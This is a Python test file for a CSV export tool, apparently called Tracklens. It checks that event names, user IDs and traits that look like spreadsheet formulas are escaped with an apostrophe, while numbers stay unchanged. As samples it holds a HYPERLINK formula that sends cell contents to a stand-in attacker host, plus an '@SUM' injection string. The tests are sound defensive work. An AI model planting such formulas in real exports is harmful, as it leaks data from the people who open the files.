"""CSV files Tracklens writes are safe to open in a spreadsheet: text that Excel, LibreOffice or
Google Sheets would evaluate as a formula ('=HYPERLINK(...)' as an event name or trait, sent with
the public write key) gets a leading apostrophe; numbers, negative ones included, are unchanged."""

from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner
from sqlalchemy import Engine

from app.cli.main import cli
from app.query.export import export_users_csv
from tests.query.support import event_row, insert_rows, ms, user_row

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_query_csv_quotes_formulas_in_event_names(engine: Engine, db_url: str) -> None:
    insert_rows(engine, [event_row(HOSTILE, "p1", ms("2026-11-01 10:00")),
                         event_row("@SUM(1+1)", "p1", ms("2026-11-01 11:00"))])
    spec = {"kind": "segmentation", "events": [HOSTILE, "@SUM(1+1)"], "timezone": "UTC",
            "range": {"from": "2026-11-01", "to": "2026-11-01"}}
    out = CliRunner().invoke(cli, ["query", "--db", db_url, "--spec", json.dumps(spec), "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.reader(io.StringIO(out.output)))
    assert rows[0] == ["bucket", "'" + HOSTILE, "'@SUM(1+1)"]
    assert rows[1] == ["2026-11-01T00:00:00+00:00", "1", "1"]


def test_users_export_quotes_formula_ids_and_traits_but_not_numbers(engine: Engine) -> None:
    insert_rows(engine, user_rows=[user_row("-2+3", {"note": HOSTILE, "score": -5, "city": "Berlin",
                                                     "tab": "\tx", "plus": "+49 30 1234"}, 1, 2, 1)])
    out = io.StringIO()
    export_users_csv(engine, {"kind": "users"}, out, columns=["note", "score", "city", "tab", "plus"])
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["id", "first_seen", "last_seen", "events", "note", "score", "city", "tab", "plus"]
    assert row[0] == "'-2+3"
    assert row[4:] == ["'" + HOSTILE, "-5", "Berlin", "'\tx", "'+49 30 1234"]

